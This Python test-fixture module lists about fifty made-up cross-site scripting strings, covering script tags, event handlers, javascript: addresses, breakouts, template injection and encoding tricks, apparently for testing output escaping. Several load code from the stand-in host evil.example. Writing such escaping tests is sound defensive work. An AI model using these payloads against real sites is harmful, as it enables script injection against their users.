"""Texts that become markup or code if a writer or a view doesn't escape them.

They are made up, and cover the kinds of attacks in OWASP's XSS filter evasion cheat sheet. All
scripts call ``owned()`` or load from ``evil.example``.
"""

from __future__ import annotations

from typing import NamedTuple

__all__ = ["HOSTILE", "Hostile"]


class Hostile(NamedTuple):
    """A text and the name of its attack."""

    name: str
    text: str


_HOST = "//evil.example"

HOSTILE = [
    # Elements
    Hostile("script", "<script>owned()</script>"),
    Hostile("script in mixed case", "<ScRiPt\n>owned()</sCrIpT\t>"),
    Hostile("script from elsewhere", f"<script src=https:{_HOST}/a.js></script>"),
    Hostile("script left open", f"<script src={_HOST}/a.js?<b>"),
    Hostile("script in a script", "<scr<script>ipt>owned()</scr</script>ipt>"),
    Hostile("image with a handler", "<img src=x onerror=owned()>"),
    Hostile("image left open", '<img src="x" onerror="owned()" alt="'),
    Hostile("slashes for spaces", "<img/src='x'/onerror='owned()'/>"),
    Hostile("body", "<body onload=owned() onpageshow=owned()>"),
    Hostile("focus", "<input autofocus onfocus=owned() tabindex=1>"),
    Hostile("details", "<details open ontoggle=owned()><summary>a</summary></details>"),
    Hostile(
        "animation", "<style>@keyframes a{}</style><b style='animation:a' onanimationend=owned()>"
    ),
    Hostile("svg", "<svg onload=owned()><animate onbegin=owned() attributeName=x dur=1s></svg>"),
    Hostile("svg link", '<svg><a xlink:href="javascript:owned()"><text y=20>a</text></a></svg>'),
    Hostile("svg use", f"<svg><use href='https:{_HOST}/a.svg#a'/></svg>"),
    Hostile("math", '<math><maction xlink:href="javascript:owned()">a</maction></math>'),
    Hostile("mutation", "<math><mtext><table><mglyph><style><img src=x onerror=owned()></style>"),
    Hostile("frame", '<iframe src="javascript:parent.owned()"></iframe>'),
    Hostile("frame with a document", "<iframe srcdoc='<script>parent.owned()</script>'></iframe>"),
    Hostile("object", '<object data="data:text/html,<script>owned()</script>"></object>'),
    Hostile("embed", f'<embed src="https:{_HOST}/a.swf" allowscriptaccess=always>'),
    Hostile("refresh", '<meta http-equiv="refresh" content="0;url=javascript:owned()">'),
    Hostile("base", f'<base href="https:{_HOST}/"><a href="/abs/2406.00001">a</a>'),
    Hostile("style sheet", f'<link rel=stylesheet href="https:{_HOST}/a.css">'),
    Hostile("style", f"<style>*{{background:url(https:{_HOST}/a.png)}}</style>"),
    Hostile("form", '<form><button formaction="javascript:owned()">a</button></form>'),
    # Out of an attribute, an element, a comment
    Hostile("double quote", '" onmouseover="owned()" style="position:fixed;inset:0'),
    Hostile("single quote", "' onmouseover='owned()' x='"),
    Hostile("backtick", "` onmouseover=`owned()` `"),
    Hostile("curly quotes", "” onmouseover=“owned()” \uff02 onclick=\uff02owned()"),
    Hostile(
        "closing tags", "</textarea></title></style></noscript></table><script>owned()</script>"
    ),
    Hostile("comment", "--><script>owned()</script><!--"),
    Hostile("odd comment", "<!--><img src=x onerror=owned()>--!>"),
    Hostile("CDATA", "]]><script>owned()</script><![CDATA["),
    Hostile("declaration", f'<!DOCTYPE a [<!ENTITY b SYSTEM "https:{_HOST}/b">]>&b;<?a owned()?>'),
    # Addresses
    Hostile("javascript address", "javascript:owned()"),
    Hostile("javascript in mixed case", "JaVaScRiPt:owned()//https://arxiv.org"),
    Hostile("javascript in entities", "&#106;avascript&colon;owned()"),
    Hostile("javascript with a tab", "java\tscript&Tab;:owned()\n"),
    Hostile("javascript behind a control", "\x01javascript:owned()"),
    Hostile("vbscript address", "vbscript:MsgBox(owned())"),
    Hostile("data address", "data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+"),
    Hostile(
        "address with quotes", "https://arxiv.org/\"onclick='owned()'><script>owned()</script>"
    ),
    Hostile(
        "address for Markdown",
        "](javascript:owned()) <javascript:owned()> ![a](x) $\\href{javascript:a()}{b}$",
    ),
    # Templates and expressions
    Hostile("templates", "{{constructor.constructor('owned()')()}} ${owned()} <%= owned() %> #{1}"),
    Hostile("expression", "datum['constructor']('owned()')() signal width:expression(owned())"),
    # Encodings
    Hostile("entities twice", "&amp;lt;script&amp;gt;owned()&lt;/script&gt;&#x3c;b&#x3e;"),
    Hostile("UTF-7", "+ADw-script+AD4-owned()+ADw-/script+AD4-"),
    Hostile(
        "look-alikes",
        "\uff1cscript\uff1eowned()\uff1c/script\uff1e %00%3Cscript%3E \ufffd\x0b\ufe64b\ufe65",
    ),
    Hostile("direction", "see \u202egnp.exe\u202c \u2066\u200b\ufeff<b\u2069>\xad\U000e0041"),
]
"""Fifty texts, without NUL and surrogates, which values reject."""
